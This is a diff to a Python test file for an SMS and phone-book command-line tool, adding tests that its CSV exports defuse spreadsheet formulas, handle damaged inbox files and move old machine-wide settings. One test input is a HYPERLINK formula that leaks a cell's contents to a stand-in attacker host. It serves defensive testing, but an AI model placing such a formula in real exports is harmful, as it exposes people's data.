@@ -3,6 +3,8 @@ build under Wine): a phone book of a few hundred entries with names in many
 scripts printed exactly as the phone holds them, storing it with --save, and
 the maker's name. The stored contacts: an import tried and done, the list,
 a group's export, sending to a group; the History exported."""
+import csv
+import json
 import os
 import tempfile
 import unittest
@@ -148,8 +150,75 @@ class Phonebook(unittest.TestCase):
         zone = data.split("\r\n")[1].split(",")[0][-6:]
         self.assertRegex(zone, r"^[+-]\d\d:\d\d$")
         self.assertEqual(data, "\ufeffTime,Number,Name,State,Text\r\n"
-                               '08/12/2026 10:15:02 %s,+4917012345,Anna,Sent,"Hi, ""you""\nthere"\r\n'
+                               '08/12/2026 10:15:02 %s,\'+4917012345,Anna,Sent,"Hi, ""you""\nthere"\r\n'
                                "09/12/2026 11:00:00 %s,555,,Sent,Two\r\n" % (zone, zone))
+
+    def test_no_export_holds_a_formula(self):
+        """Every first character a spreadsheet runs as a formula, in each of
+        the three exports, is written after a quote, which the import takes
+        off again; inbox export, which only reads, leaves a damaged inbox
+        file where it is and names the fault, not the bytes."""
+        self.addCleanup(lambda: [zandu.settings_delete_value(n) for n in ("OwnContacts", "NewHistory")])
+        texts = ['=HYPERLINK("http://evil.example/?leak="&B3,"Click me")', "+SUM(1;2)", "-2+3", "@A1", "\tTab",
+                 "\rCR", "'=quoted", "+4917012345"]
+        names = [t for t in texts if ";" not in t and t[0] not in "\t\r"]  # the ones a contact may be named
+        settings_set_list("Contacts", [x for name in names for x in (name, "+4917012345")])
+        settings_set_list("OwnContacts", [" " + x for name in names for x in (name, "+4917012345")])
+        settings_set_list("NewHistory", [" " + x for text in texts for x in (text, text, "08/12/2026 10:15:02", text)])
+        message = {"sender": "=1+2", "time": "", "encoding": "gsm7", "parts": []}
+        with zandu.SavedInbox() as inbox:
+            with open(inbox.path, "w", encoding="utf-8") as f:
+                json.dump({"format": "Zandu SMS inbox", "version": 1,
+                           "messages": [dict(message, text=t, parts=[{"part": 1, "key": "%016x" % i, "time": "",
+                                                                      "text": t}]) for i, t in enumerate(texts)]}, f)
+            paths = [os.path.join(self.tmp.name, n) for n in ("contacts.csv", "history.csv", "inbox.csv")]
+            for command, path, count in zip((["contacts"], ["history"], ["inbox"]), paths,
+                                            (len(names), len(texts), len(texts))):
+                out = cli(*command, "export", path)
+                self.assertEqual((out.returncode, out.stdout), (0, "%d %s exported to %s\n" % (
+                    count, "contacts" if command == ["contacts"] else "messages", path)), out.stderr)
+                with open(path, encoding="utf-8-sig", newline="") as f:
+                    rows = list(csv.reader(f))
+                cells = [c for row in rows for c in row]
+                self.assertFalse([c for c in cells if c and c[0] in "=+-@\t\r"], command)
+                expected = names if command == ["contacts"] else texts
+                # Each contact's name and number; each record's name, number and text; each message's text.
+                self.assertEqual(len([c for c in cells if c[1:] in expected and c[0] == "'"]),
+                                 {"contacts": 2 * len(names), "history": 3 * len(texts),
+                                  "inbox": len(texts)}[command[0]], (command, cells))
+            out = cli("contacts", "import", paths[0], "--dry-run")
+            self.assertEqual(lines(out.stdout), ["%d contacts: 0 new, 0 updated, %d unchanged, 0 refused" % (
+                len(names), len(names))], out.stderr)
+
+            with open(inbox.path, "w", encoding="utf-8") as f:
+                f.write(json.dumps({"format": "Zandu SMS inbox", "version": 1,
+                                    "messages": [dict(message, text="x", total=1, reference=1,
+                                                      reference_bits=8)]}).replace('"total": 1', '"total": 1e30'))
+            out = cli("inbox", "export", paths[2])
+            self.assertEqual(out.returncode, 6)
+            self.assertIn('is damaged (message 1: "total" is not a whole number from 1 to 255)', out.stderr)
+            self.assertNotIn("1e30", out.stderr)
+            self.assertTrue(os.path.exists(inbox.path))
+            self.assertFalse([n for n in os.listdir(os.path.dirname(inbox.path)) if n.startswith("inbox.json.d")])
+
+    def test_an_earlier_versions_values_move_on_purpose(self):
+        """Values of a user's an earlier version kept machine-wide are not read,
+        until the user moves them into their own key; an administrator's
+        settings stay machine-wide."""
+        machine = zandu.MACHINE_SETTINGS_KEY
+        saved = settings_export(machine)
+        self.addCleanup(settings_restore, saved, machine)
+        zandu.settings_delete(machine)
+        settings_set_list("Contacts", ["Anna", "0123"], key=machine)
+        zandu.settings_set_string("Server", "https://sms.example.org", key=machine)
+        zandu.settings_delete_value("Contacts")
+        self.assertEqual(lines(cli("contacts", "list").stdout), [])
+        self.assertEqual(lines(cli("settings", "move-from-machine", "--dry-run").stdout), ["Contacts: would be moved"])
+        out = cli("settings", "move-from-machine")
+        self.assertEqual((out.returncode, lines(out.stdout)), (0, ["Contacts: moved"]), out.stderr)
+        self.assertEqual(lines(cli("contacts", "list").stdout), ["Anna\t0123\t\tphone"])
+        self.assertIsNone(settings_list("Contacts", key=machine))
+        self.assertIn('"Server"="https://sms.example.org"', settings_export(machine))
 
     def test_the_makers_name(self):
         with Phone(port_link("COM12"), "--maker", "ACME Mobile 3000") as phone:
